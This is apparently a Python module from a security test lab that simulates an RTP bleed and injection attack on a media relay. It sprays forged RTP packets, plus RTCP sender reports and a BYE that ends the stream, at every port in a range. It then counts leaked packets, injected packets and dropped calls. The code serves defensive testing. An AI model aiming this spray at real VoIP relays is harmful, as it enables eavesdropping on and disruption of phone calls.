"""The attacker: RTP sprayed at every port of the range, and the account of what came of it (security.md 3)."""

from __future__ import annotations

import itertools
import socket
import threading
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from types import TracebackType

from systemlab.media import Address, Dialogue, Media, rtp, ssrc_of
from systemlab.ngclient import drain

SSRC = 0x0BADCAFE
MARK = SSRC.to_bytes(4, "big")
FRAME_S = 0.01


def published(_: int) -> list[bytes]:
    """The packet of the published attack: fixed sequence number, time stamp and SSRC, 160 zero bytes."""
    return [rtp(1, SSRC, bytes(160), timestamp=1)]


def cunning(count: int) -> list[bytes]:
    """A spray that knows the rules: rising sequence numbers, and RTCP with a sender report and a BYE."""
    report = b"\x80\xc8\0\6" + MARK + bytes(20)
    return [rtp(count, SSRC, bytes(160)), report, report + b"\x81\xcb\0\1" + MARK]


class Spray:
    """Sends to all targets from all sockets, over and over, until its block ends."""

    def __init__(
        self, sockets: Iterable[socket.socket], targets: Iterable[Address], packets: Callable[[int], list[bytes]]
    ) -> None:
        self.sockets = list(sockets)
        self._targets = list(targets)
        self._packets = packets
        self._end = threading.Event()
        self.rounds = 0
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        for count in itertools.count(1):
            for packet in self._packets(count):
                for sock, target in itertools.product(self.sockets, self._targets):
                    sock.sendto(packet, target)
            self.rounds = count
            if self._end.wait(FRAME_S):
                return

    def __enter__(self) -> Spray:
        self._thread.start()
        self.wait_rounds(2)
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._end.set()
        self._thread.join(10)

    def wait_rounds(self, rounds: int) -> None:
        """Wait until the whole range has been sprayed that many times more."""
        goal, deadline = self.rounds + rounds, time.monotonic() + 10
        while self.rounds < goal and time.monotonic() < deadline:
            time.sleep(FRAME_S / 4)
        assert self.rounds >= goal, "the attacker is too slow"

    def bled(self) -> int:
        """How many datagrams the relay has sent to the attacker."""
        return sum(len(drain(sock)) for sock in self.sockets)


@dataclass
class Outcome:
    """What an attack did to a call: packets in the wrong hands, packets forced in, and whether it survived."""

    bled: int = 0
    injected: int = 0
    up: bool = True


def talk(dialogue: Dialogue, frames: int = 20) -> Outcome:
    """Let both parties talk, with a report each; count foreign packets; up means that all of their own RTP arrives."""
    sides = (dialogue.caller.audio, dialogue.callee.audio)
    outcome = Outcome()
    for media in sides:
        media.send_rtcp()
    for _ in range(frames):
        for media in sides:
            media.send()
        time.sleep(FRAME_S)
    time.sleep(2 * FRAME_S)
    for speaker, listener in (sides, sides[::-1]):
        heard = drain(listener.rtp)
        outcome.injected += sum(MARK in packet for packet in heard)
        outcome.up &= sum(ssrc_of(packet) == speaker.ssrc for packet in heard) >= frames
    outcome.injected += injected(sides)
    return outcome


def injected(sides: Iterable[Media]) -> int:
    """How many of the packets that wait at the parties are the attacker's."""
    return sum(MARK in packet for media in sides for sock in media.sockets for packet in drain(sock))
